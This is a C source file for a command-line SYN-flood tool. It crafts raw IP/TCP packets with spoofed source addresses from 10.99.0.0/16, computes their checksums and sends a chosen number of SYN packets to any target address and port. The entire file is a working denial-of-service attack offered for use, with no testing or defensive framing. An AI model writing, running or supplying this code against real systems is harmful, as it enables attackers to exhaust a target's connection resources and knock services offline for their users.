/* `flood ADDRESS PORT COUNT`: so many SYN packets from other addresses of 10.99.0.0/16, which nobody answers for. */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static unsigned short folded(unsigned sum) {
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return ~sum;
}

int main(int argc, char **words) {
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), count = argc > 3 ? atoi(words[3]) : 0;
    if (fd < 0) {
        perror("socket");
        return 1;
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(words[1])};
    for (int i = 0; i < count; i++) {
        unsigned short packet[20] = {0};
        struct iphdr *ip = (void *)packet;
        struct tcphdr *tcp = (void *)(packet + 10);
        *ip = (struct iphdr){.version = 4, .ihl = 5, .tot_len = htons(40), .ttl = 64, .protocol = IPPROTO_TCP,
                             .saddr = htonl(0x0a630000u | (1 + i / 60000)), .daddr = to.sin_addr.s_addr};
        tcp->source = htons(1024 + i % 60000);
        tcp->dest = htons(atoi(words[2]));
        tcp->seq = random();
        tcp->doff = 5;
        tcp->syn = 1;
        tcp->window = htons(1000);
        unsigned sum = htons(IPPROTO_TCP) + htons(20);
        for (int k = 6; k < 20; k++)
            sum += packet[k];
        tcp->check = folded(sum);
        sendto(fd, packet, sizeof packet, 0, (void *)&to, sizeof to);
        if (i % 200 == 0)
            usleep(2000);
    }
    return 0;
}
